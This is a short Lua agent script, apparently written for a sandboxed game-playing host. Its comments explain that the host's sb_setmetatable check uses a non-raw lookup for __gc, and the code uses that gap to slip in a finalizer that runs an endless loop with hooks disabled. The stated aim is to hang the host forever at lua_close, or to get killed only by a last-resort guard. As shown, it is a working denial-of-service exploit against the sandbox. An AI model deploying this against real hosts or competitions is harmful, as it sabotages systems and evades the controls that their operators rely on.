-- Smuggling __gc past sb_setmetatable. The check does
--   lua_getfield(L, 2, "__gc")      /* comment says "raw", but it is not */
-- so when the metatable has no __gc yet, the metatable's OWN metatable
-- __index runs (agent code) in the middle of the check; it rawsets __gc into
-- the metatable and returns nil. The check passes, lua_setmetatable then sees
-- __gc and marks the object for finalization. Finalizers run with hooks off.
-- RESULT: the object is kept alive in self; at the end of the game the host
-- closes the state (lua_close, outside any call, no watchdog) and runs the
-- finalizer: an endless loop -> the HOST HANGS forever (killed by timeout).
-- Variant (garbage object): the finalizer runs at a GC step inside a later
-- call, with hooks disabled: only the last resort stops it, the agent is killed.
local agent = {}
local function evil_mt()
  local mt = {}
  setmetatable(mt, { __index = function(t, k)
    if k == "__gc" then rawset(t, "__gc", function() while true do end end) end
    return nil
  end })
  return mt
end
function agent:initialize()
  self.keep = setmetatable({}, evil_mt())   -- finalized only at lua_close
end
return agent
